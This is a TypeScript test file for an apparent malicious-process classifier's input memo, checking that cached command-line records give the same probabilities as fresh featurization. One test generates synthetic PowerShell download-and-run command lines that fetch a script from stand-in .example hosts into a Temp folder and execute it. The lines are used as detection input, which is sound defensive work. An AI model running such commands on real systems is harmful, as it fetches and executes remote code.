// The classifier's input memo keeps each command line's featurizer record and hands it back to the
// featurizer (parityFields' KnownLine) when the line returns in new inputs, and has a line it does not hold
// built without a second lookup: probabilities must be those of featurizing every event afresh, also
// when a record outlives the featurizer's own memo and the arenas its values live in have wrapped.

import { describe, expect, it } from 'vitest';
import { buildFeatureSet, FULL_SPEC } from '../features/index.js';
import { parityFields, type CommandLineParts, type ParityFields } from '../features/parity-normalize.js';
import type { ProcessEvent } from '../normalize/process-event.js';
import { loadClassifier } from './classifier.js';
import { applyCalibration, compile } from './gbdt/index.js';
import { InputMemo } from './input-memo.js';

const event = (cmd: string, parent = 'explorer.exe', name = 'cmd.exe'): ProcessEvent =>
  ({ process: { name, executable: `C:\\Windows\\System32\\${name}`, command_line: cmd, parent: { name: parent } }, user: { name: 'alice', domain: 'corp' } }) as unknown as ProcessEvent;

/** A record of the featurizer's for cmd (not one the tests below hand out). */
const recordOf = (cmd: string): CommandLineParts => parityFields(event(cmd)).cmdParts;

describe('command-line records kept by the input memo', () => {
  it('answers null for a line it does not hold, the stored record for one it does', () => {
    const memo = new InputMemo(4);
    const r1 = recordOf('a /1');
    expect(memo.lookup(event('a /1'))).toBeUndefined();
    expect(memo.lineRecord()).toBeNull();
    memo.store(0.5, r1);
    // the same line in other inputs: known, with its record
    expect(memo.lookup(event('a /1', 'winword.exe'))).toBeUndefined();
    expect(memo.lineRecord()).toBe(r1);
    memo.store(0.25);
    // the newest entry of the chain was stored without a record
    expect(memo.lookup(event('a /1', 'outlook.exe'))).toBeUndefined();
    expect(memo.lineRecord()).toBeUndefined();
    memo.store(0.125, r1);
    expect(memo.lookup(event('a /1', 'excel.exe'))).toBeUndefined();
    expect(memo.lineRecord()).toBe(r1);
    memo.store(0.0625, r1);
    expect(memo.size).toBe(4);
    // an event it cannot key
    expect(memo.lookup({ process: { command_line: 7 } } as unknown as ProcessEvent)).toBeUndefined();
    expect(memo.lineRecord()).toBeUndefined();
    // a full table is dropped: the line is new again
    expect(memo.lookup(event('b'))).toBeUndefined();
    memo.store(1, recordOf('b'));
    expect(memo.size).toBe(1);
    expect(memo.lookup(event('a /1', 'excel2.exe'))).toBeUndefined();
    expect(memo.lineRecord()).toBeNull();
  });

  it('keeps a wide line\'s record when its entries are re-chained', () => {
    const memo = new InputMemo(64);
    const r = recordOf('w');
    for (let i = 0; i < 12; i++) {
      expect(memo.lookup(event('w', `p${i}.exe`))).toBeUndefined();
      memo.store(i, r);
    }
    expect(memo.lookup(event('w', 'p3.exe'))).toBe(3);
    expect(memo.lookup(event('w', 'q.exe'))).toBeUndefined();
    expect(memo.lineRecord()).toBe(r);
  });

  it('featurizes with the record it is handed only for that very line', () => {
    const memoised = recordOf('x /y');
    expect(recordOf('x /y')).toBe(memoised);
    const known = (raw: string, parts: CommandLineParts | undefined): ParityFields['cmdParts'] =>
      parityFields(event('x /y'), undefined, undefined, { raw, parts }).cmdParts;
    // a line new to the caller: built afresh, equal to the memo's
    const built = known('x /y', undefined);
    expect(built).not.toBe(memoised);
    expect([built.raw, built.commandLine, built.cmdObfuscation, built.gates, built.keywords]).toEqual([memoised.raw, memoised.commandLine, memoised.cmdObfuscation, memoised.gates, memoised.keywords]);
    // a record handed in is the one used
    expect(known('x /y', built)).toBe(built);
    // without one, the featurizer's memo answers
    expect(parityFields(event('x /y')).cmdParts).toBe(memoised);
    // a line of another command line is ignored, whether it brings a record or not
    expect(known('x /z', built)).toBe(memoised);
    expect(known('x /z', undefined)).toBe(memoised);
    expect(parityFields(event('x /z')).cmdParts.raw).toBe('x /z');
  });

  it('scores lines that return after the featurizer\'s memo and arenas moved on as a fresh featurization does', () => {
    const clf = loadClassifier(undefined, { explain: false });
    const fs = buildFeatureSet(FULL_SPEC);
    const compiled = compile(clf.model.gbdt);
    const row = new Float32Array(fs.names.length);
    const lines = (i: number): string =>
      `powershell.exe -nop -c "iwr http://h${i % 97}.example/${i.toString(36)} -OutFile C:\\Users\\u${i % 13}\\AppData\\Local\\Temp\\${i}.ps1; & \\"C:\\Users\\u\\t${i}.ps1\\" -x ${'ab'.repeat(i % 40)}"`;
    const parents = ['explorer.exe', 'winword.exe', 'cmd.exe', 'services.exe'];
    const evs: ProcessEvent[] = [];
    // 20,000 new lines (past the featurizer's 8,192-line memo and its arenas), then the first ones
    // again under other parents and the same parent, as fresh objects.
    for (let i = 0; i < 20000; i++) evs.push(event(lines(i), parents[0], 'powershell.exe'));
    for (let i = 0; i < 3000; i++) evs.push(event(lines(i), parents[1 + (i % 3)], 'powershell.exe'), event(lines(i), parents[0], 'powershell.exe'));
    let differ = 0;
    for (const ev of evs) {
      fs.featurize(ev, row, 0);
      const want = applyCalibration(compiled.flat.calibration, compiled.predictRaw(row, 0));
      if (!Object.is(clf.probability(ev), want)) differ++;
    }
    expect(differ).toBe(0);
    const st = clf.memoStats!();
    expect(st.inputHits).toBe(3000);
    expect(st.rows).toBe(23000);
  }, 60_000);
});
